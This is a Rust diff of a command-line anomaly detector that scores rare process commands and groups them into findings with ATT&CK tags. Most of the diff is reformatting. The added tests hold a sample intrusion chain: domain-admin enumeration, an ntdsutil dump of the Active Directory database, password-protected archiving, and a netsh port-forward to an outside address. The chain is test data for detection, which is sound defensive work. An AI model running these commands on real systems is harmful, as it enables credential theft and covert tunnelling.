@@ -177,7 +177,9 @@ impl<'e> Stream<'e> {
                 }
             }
             Act::Share => {}
-            Act::Start | Act::Script | Act::Service | Act::Task | Act::LogCleared => self.command(facts, &actor),
+            Act::Start | Act::Script | Act::Service | Act::Task | Act::LogCleared => {
+                self.command(facts, &actor)
+            }
         }
     }
 
@@ -196,7 +198,8 @@ impl<'e> Stream<'e> {
             })
             .collect();
         sessions.sort_by(|left, right| {
-            let by_name = || (&left.host, &left.actor, &left.session).cmp(&(&right.host, &right.actor, &right.session));
+            let by_name =
+                || (&left.host, &left.actor, &left.session).cmp(&(&right.host, &right.actor, &right.session));
             right.score.total_cmp(&left.score).then_with(by_name)
         });
         sessions.truncate(1_000);
@@ -205,7 +208,12 @@ impl<'e> Stream<'e> {
             .into_values()
             .filter(|shape| since(shape.first, self.latest) < 7 * 24 * HOUR)
             .collect();
-        new_shapes.sort_by(|left, right| right.score.total_cmp(&left.score).then_with(|| left.command.cmp(&right.command)));
+        new_shapes.sort_by(|left, right| {
+            right
+                .score
+                .total_cmp(&left.score)
+                .then_with(|| left.command.cmp(&right.command))
+        });
         Outcome {
             findings,
             new_shapes,
@@ -277,16 +285,25 @@ impl<'e> Stream<'e> {
         let text = blackrod_model::mail::hash;
         let all = mix(text(actor), 20);
         let edge = mix(mix(mix(text(actor), text(&facts.peer)), text(&facts.host)), 21);
-        let (seen, chances) = (self.baseline.count(edge, facts.time), self.baseline.count(all, facts.time));
+        let (seen, chances) = (
+            self.baseline.count(edge, facts.time),
+            self.baseline.count(all, facts.time),
+        );
         let value = (0.05 * (chances + 20.0) / (seen + 1.0)).ln().clamp(-1.0, 2.0);
         self.baseline.add(all, facts.time);
         self.baseline.add(edge, facts.time);
-        self.sessions.arrive(&facts.host, actor, &facts.peer, value, facts.time);
+        self.sessions
+            .arrive(&facts.host, actor, &facts.peer, value, facts.time);
     }
 
     /// Whether the command names something outside the estate. Only where the estate says what is inside.
     fn outside(&self, facts: &ProcessFacts) -> Option<Term> {
-        if !facts.traits.any(Traits::URL.with(Traits::UNC).with(Traits::REMOTE).with(Traits::ADDRESS)) {
+        if !facts.traits.any(
+            Traits::URL
+                .with(Traits::UNC)
+                .with(Traits::REMOTE)
+                .with(Traits::ADDRESS),
+        ) {
             return None;
         }
         let inside = facts.targets.iter().find(|target| self.is_inside(target));
@@ -297,7 +314,10 @@ impl<'e> Stream<'e> {
             });
         }
         let outside = facts.targets.iter().find(|target| {
-            target.parse::<std::net::IpAddr>().is_ok_and(|address| !is_private(address)) || target.contains('.')
+            target
+                .parse::<std::net::IpAddr>()
+                .is_ok_and(|address| !is_private(address))
+                || target.contains('.')
         })?;
         Some(Term {
             what: format!("{outside} is outside the estate"),
@@ -333,7 +353,11 @@ impl<'e> Stream<'e> {
         pulse.last = pulse.last.max(facts.time);
         let is_odd = known > 5 * 24 * HOUR && gap > LEAST && gap > 3 * before.max(HOUR / 4);
         is_odd.then(|| Term {
-            what: format!("the host's log was silent for {} hours before, never over {:.1}", gap / HOUR, before as f64 / HOUR as f64),
+            what: format!(
+                "the host's log was silent for {} hours before, never over {:.1}",
+                gap / HOUR,
+                before as f64 / HOUR as f64
+            ),
             value: 1.5,
         })
     }
@@ -359,7 +383,10 @@ impl<'e> Stream<'e> {
         if let Some(known) = self.roles.get(user) {
             return known.clone();
         }
-        let role = self.estate.person_by_account(user).and_then(|person| person.roles.first().cloned());
+        let role = self
+            .estate
+            .person_by_account(user)
+            .and_then(|person| person.roles.first().cloned());
         if self.roles.len() < 100_000 {
             self.roles.insert(user.to_owned(), role.clone());
         }
@@ -368,9 +395,17 @@ impl<'e> Stream<'e> {
 
     fn attack(&self, facts: &ProcessFacts) -> Vec<String> {
         let table = self.options.table;
-        let mut ids: Vec<String> = facts.uses.iter().filter_map(|name| table.use_named(name)).flat_map(|entry| entry.attack.clone()).collect();
+        let mut ids: Vec<String> = facts
+            .uses
+            .iter()
+            .filter_map(|name| table.use_named(name))
+            .flat_map(|entry| entry.attack.clone())
+            .collect();
         if ids.is_empty() {
-            let classes = facts.programs.iter().filter_map(|program| table.class_of(program));
+            let classes = facts
+                .programs
+                .iter()
+                .filter_map(|program| table.class_of(program));
             ids.extend(classes.flat_map(|class| class.attack.clone()));
         }
         let parent = super::shape::stem(&facts.parent);
@@ -390,7 +425,10 @@ impl<'e> Stream<'e> {
     fn findings(&self) -> Vec<Finding> {
         let mut running: Vec<Running<'_>> = self.sessions.operations().map(Running::new).collect();
         running.sort_by(|left, right| left.operation.actors.cmp(&right.operation.actors));
-        let mut days: Vec<u32> = running.iter().flat_map(|running| running.operation.days.iter().map(|day| day.day)).collect();
+        let mut days: Vec<u32> = running
+            .iter()
+            .flat_map(|running| running.operation.days.iter().map(|day| day.day))
+            .collect();
         days.sort_unstable();
         days.dedup();
         let start = days.first().copied().unwrap_or(0);
@@ -411,7 +449,14 @@ impl<'e> Stream<'e> {
                 findings.push(self.finding(running.operation, &added, score, since_told));
             }
         }
-        findings.sort_by(|left, right| (left.time, left.evidence, left.at, &left.title).cmp(&(right.time, right.evidence, right.at, &right.title)));
+        findings.sort_by(|left, right| {
+            (left.time, left.evidence, left.at, &left.title).cmp(&(
+                right.time,
+                right.evidence,
+                right.at,
+                &right.title,
+            ))
+        });
         findings
     }
 
@@ -421,22 +466,38 @@ impl<'e> Stream<'e> {
             of <= day.day && told.is_none_or(|told| of > told)
         };
         let mut steps: Vec<&Step> = operation.steps.iter().filter(is_due).collect();
-        steps.sort_by(|left, right| right.value.total_cmp(&left.value).then(left.time.cmp(&right.time)));
+        steps.sort_by(|left, right| {
+            right
+                .value
+                .total_cmp(&left.value)
+                .then(left.time.cmp(&right.time))
+        });
         let mut attack: Vec<String> = steps.iter().flat_map(|step| step.attack.clone()).collect();
         attack.sort_unstable();
         attack.dedup();
-        let code = if steps.len() == 1 { COMMAND_CODE } else { SESSION_CODE };
+        let code = if steps.len() == 1 {
+            COMMAND_CODE
+        } else {
+            SESSION_CODE
+        };
         let mut hosts: Vec<&str> = steps.iter().map(|step| step.host.as_str()).collect();
         hosts.sort_unstable();
         hosts.dedup();
         let who = operation.actors.join(", ");
         let title = match steps.as_slice() {
             [only] => format!("Unusual command by {who}: {}", only.image),
-            _ => format!("{} unusual commands by {who} on {} host(s)", steps.len(), hosts.len()),
+            _ => format!(
+                "{} unusual commands by {who} on {} host(s)",
+                steps.len(),
+                hosts.len()
+            ),
         };
         steps.truncate(MOST_QUOTED);
         steps.sort_by_key(|step| (step.time, step.evidence, step.at));
-        let mut reasons = vec![Reason::new("score", &format!("{score:+.1}")), Reason::new("history", &self.history())];
+        let mut reasons = vec![
+            Reason::new("score", &format!("{score:+.1}")),
+            Reason::new("history", &self.history()),
+        ];
         reasons.extend(steps.iter().map(|step| reason(step)));
         let first = operation.actors.first().map_or("", String::as_str);
         Finding {
@@ -448,7 +509,9 @@ impl<'e> Stream<'e> {
             time: day.time,
             evidence: day.evidence,
             at: day.at,
-            class: steps.last().map_or(blackrod_model::Class::PROCESS_ACTIVITY.0, |step| step.class),
+            class: steps
+                .last()
+                .map_or(blackrod_model::Class::PROCESS_ACTIVITY.0, |step| step.class),
             attack,
             reasons,
             entities: entities(&steps),
@@ -458,7 +521,9 @@ impl<'e> Stream<'e> {
     fn history(&self) -> String {
         let days = self.baseline.days();
         if days < DAYS_OF_HISTORY {
-            format!("{days} day(s) of history: too few to say what is normal here, so mostly what a command can do and how it is built counted")
+            format!(
+                "{days} day(s) of history: too few to say what is normal here, so mostly what a command can do and how it is built counted"
+            )
         } else {
             format!("{days} days of history")
         }
@@ -490,11 +555,19 @@ impl<'o> Running<'o> {
 
     /// Takes in what `day` added, beyond what a day usually adds since `start`; `None` where it added nothing.
     fn advance(&mut self, day: u32, start: u32) -> Option<(f32, Day)> {
-        let added = self.operation.days.get(self.next).filter(|added| added.day == day)?;
+        let added = self
+            .operation
+            .days
+            .get(self.next)
+            .filter(|added| added.day == day)?;
         self.next += 1;
         let passed = day.saturating_sub(start) as f32;
         let usual = self.usual / passed.max(1.0);
-        let faded = FADE_A_DAY.powi(i32::try_from(day.saturating_sub(self.last)).unwrap_or(i32::MAX).min(365));
+        let faded = FADE_A_DAY.powi(
+            i32::try_from(day.saturating_sub(self.last))
+                .unwrap_or(i32::MAX)
+                .min(365),
+        );
         self.total = (self.total * faded + added.gain - USUAL * usual).max(0.0);
         self.usual += added.gain.min(2.0 * ALERT_FLOOR);
         self.last = day;
@@ -510,7 +583,10 @@ impl<'o> Running<'o> {
 fn reason(step: &Step) -> Reason {
     let mut terms: Vec<&Term> = step.terms.iter().filter(|term| term.value.abs() >= 0.1).collect();
     terms.sort_by(|left, right| right.value.total_cmp(&left.value));
-    let terms: Vec<String> = terms.iter().map(|term| format!("{:+.1} {}", term.value, term.what)).collect();
+    let terms: Vec<String> = terms
+        .iter()
+        .map(|term| format!("{:+.1} {}", term.value, term.what))
+        .collect();
     let shown = &step.command[..step.command.floor_char_boundary(300)];
     Reason::new(
         format!("{:+.1} {} {} on {}", step.value, step.time, step.user, step.host),
@@ -558,12 +634,147 @@ fn severity(score: f32) -> Severity {
 }
 
 fn shape_key(image: &str, skeleton: &str) -> u64 {
-    mix(blackrod_model::mail::hash(image), blackrod_model::mail::hash(skeleton))
+    mix(
+        blackrod_model::mail::hash(image),
+        blackrod_model::mail::hash(skeleton),
+    )
 }
 
 fn is_private(address: std::net::IpAddr) -> bool {
     match address {
         std::net::IpAddr::V4(v4) => v4.is_private() || v4.is_link_local() || v4.is_loopback(),
         std::net::IpAddr::V6(v6) => v6.is_loopback() || v6.segments()[0] & 0xfe00 == 0xfc00,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    #![allow(clippy::unwrap_used)]
+    use blackrod_model::{EvidenceId, Position};
+
+    use super::*;
+    use crate::rarity::Extractor;
+
+    const DAY: i64 = 86_400;
+    const STEPS: [&str; 4] = [
+        r#"cmd.exe /c net group "domain admins" /dom"#,
+        r#"ntdsutil "ac i ntds" ifm "create full C:\Windows\Temp\x""#,
+        r"rar.exe a -hpsecret C:\Windows\Temp\x.rar C:\Windows\Temp\x",
+        "netsh interface portproxy add v4tov4 listenport=9999 connectaddress=203.0.113.7 connectport=8443",
+    ];
+
+    fn step(record: u64, time: i64, host: &str, user: &str, command: &str) -> ProcessFacts {
+        let image = command.split(' ').next().unwrap();
+        let mut facts = Extractor::new(Table::builtin()).command(image, "cmd.exe", command);
+        facts.evidence = EvidenceId::default();
+        facts.at = Position { offset: 0, record };
+        facts.time = Timestamp::from_seconds(1_700_000_000 + time);
+        facts.host = host.to_owned();
+        facts.user = user.to_owned();
+        facts.session = format!("{:#x}", 0x1000 + time / DAY);
+        facts
+    }
+
+    fn ordinary_days() -> Vec<ProcessFacts> {
+        let mut all = Vec::new();
+        for day in 0..20 {
+            for (number, user) in ["anna", "ben", "cleo"].iter().enumerate() {
+                for (minute, command) in [
+                    "whoami /all",
+                    "robocopy d:\\a \\\\srv\\b /mir",
+                    "net use h: \\\\srv\\h",
+                ]
+                .iter()
+                .enumerate()
+                {
+                    let time = day * DAY + (number * 10 + minute) as i64 * 60;
+                    all.push(step(
+                        all.len() as u64,
+                        time,
+                        &format!("ws{number}"),
+                        user,
+                        command,
+                    ));
+                }
+            }
+        }
+        all
+    }
+
+    fn judge(facts: &[ProcessFacts], options: Options) -> Outcome {
+        let estate = Estate::default();
+        let mut stream = Stream::new(&estate, options);
+        facts.iter().for_each(|facts| stream.push(facts));
+        stream.finish()
+    }
+
+    #[test]
+    fn ordinary_work_is_silent_and_an_intrusion_is_one_finding_that_shows_its_terms() {
+        let mut facts = ordinary_days();
+        assert_eq!(judge(&facts, Options::default()).findings, []);
+        for (number, command) in STEPS.iter().enumerate() {
+            facts.push(step(
+                1_000 + number as u64,
+                20 * DAY + number as i64 * 600,
+                "ws1",
+                "ben",
+                command,
+            ));
+        }
+        let outcome = judge(&facts, Options::default());
+        let [finding] = outcome.findings.as_slice() else {
+            panic!("{:?}", outcome.findings);
+        };
+        assert_eq!(
+            (finding.code.as_str(), finding.severity),
+            (SESSION_CODE, Severity::High)
+        );
+        assert!(finding.attack.iter().any(|id| id == "T1003.003"));
+        assert!(finding.entities.iter().any(|entity| entity.value == "ben"));
+        assert!(
+            finding
+                .reason_line()
+                .contains("this program, among those of the account: 0 of")
+        );
+        assert!(
+            outcome
+                .new_shapes
+                .iter()
+                .any(|shape| shape.image.starts_with("ntdsutil"))
+        );
+        let none = Options {
+            alerts_per_day: 0,
+            ..Options::default()
+        };
+        assert_eq!(judge(&facts, none).findings, []);
+    }
+
+    #[test]
+    fn what_was_confirmed_is_ordinary_and_no_history_is_said() {
+        let steps = STEPS.iter().enumerate();
+        let facts: Vec<ProcessFacts> = steps
+            .map(|(number, command)| step(number as u64, number as i64 * 60, "dc1", "ben", command))
+            .collect();
+        let found = judge(&facts, Options::default()).findings;
+        assert_eq!(found.len(), 1);
+        assert!(
+            found
+                .first()
+                .unwrap()
+                .reason_line()
+                .contains("too few to say what is normal")
+        );
+        let confirmed = facts.iter().map(|facts| Confirmed {
+            image: facts.image.clone(),
+            skeleton: facts.skeleton.clone(),
+            who: "anna".to_owned(),
+            when: facts.time,
+            why: "promotion of a domain controller".to_owned(),
+        });
+        let options = Options {
+            confirmed: confirmed.collect(),
+            ..Options::default()
+        };
+        assert_eq!(judge(&facts, options).findings, []);
     }
 }
